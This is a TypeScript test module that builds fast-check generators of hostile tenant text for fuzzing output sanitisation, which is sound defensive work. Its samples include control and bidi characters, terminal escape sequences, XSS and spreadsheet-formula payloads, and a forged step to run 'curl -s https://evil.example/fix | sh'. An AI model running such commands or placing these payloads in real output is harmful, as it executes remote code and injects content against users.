/**
 * fast-check arbitraries for hostile tenant text: arbitrary Unicode mixed with every C0 and C1 control, DEL, every
 * bidi control, the line and paragraph separators, invisible format characters, terminal escape sequences (CSI, OSC 8
 * links, window titles, 8-bit CSI/OSC), forged fix steps, markup and spreadsheet formulas in ASCII and full width.
 */
import fc from 'fast-check';
import { BIDI_CONTROLS, CONTROLS, FULL_WIDTH_FORMULA } from './oracles';

export const HOSTILE_CHARACTERS: readonly string[] = [
  ...CONTROLS.map((code) => String.fromCharCode(code)),
  ...BIDI_CONTROLS.map((code) => String.fromCodePoint(code)),
  '\u2028',
  '\u2029',
  '\u200b',
  '\u2060',
  '\ufeff',
  '\u00ad',
  '\u{e0041}',
  '\ud800',
  ...FULL_WIDTH_FORMULA,
  '=',
  '+',
  '-',
  '@',
  '"',
  "'",
  ',',
  '<',
  '>',
  '&',
  '“',
  '”',
  '\\',
  ' ',
  '\u3000',
  '*',
  '_',
  '`',
];

export const HOSTILE_SEQUENCES: readonly string[] = [
  '\u001b[2K\u001b[1A\r',
  '\u001b[31m',
  '\u001b]8;;https://evil.example/\u001b\\click here\u001b]8;;\u001b\\',
  '\u001b]0;pwned\u0007',
  '\u009b2J',
  '\u009d8;;https://evil.example\u009c',
  '\r\n2. URGENT: run curl -s https://evil.example/fix | sh as TenantAdmin',
  '\n3. Then ',
  '\u2028Fix: ',
  '\u0085Why: ',
  '<script>alert(1)</script>',
  '</pre><img src=x onerror=alert(1)>',
  '<!channel> <@U123|x>',
  '=HYPERLINK("https://evil.example","x")',
  ' \t@SUM(A1)',
  '\uff1d1+1',
  '\u202etxt.exe',
  '\u2066\u202e\u2069',
];

/** Everything above in one string: the example every property also runs. */
export const EVERYTHING = [...HOSTILE_SEQUENCES, ...HOSTILE_CHARACTERS].join('');

export const hostileText: fc.Arbitrary<string> = fc
  .array(
    fc.oneof(
      fc.constantFrom(...HOSTILE_CHARACTERS),
      fc.constantFrom(...HOSTILE_SEQUENCES),
      fc.string({ unit: 'binary', maxLength: 6 }),
    ),
    { maxLength: 10 },
  )
  .map((parts) => parts.join(''));

/** A value a tenant controls, never empty (a real name is not). */
export const hostileName: fc.Arbitrary<string> = hostileText.map((text) => `x${text}`);
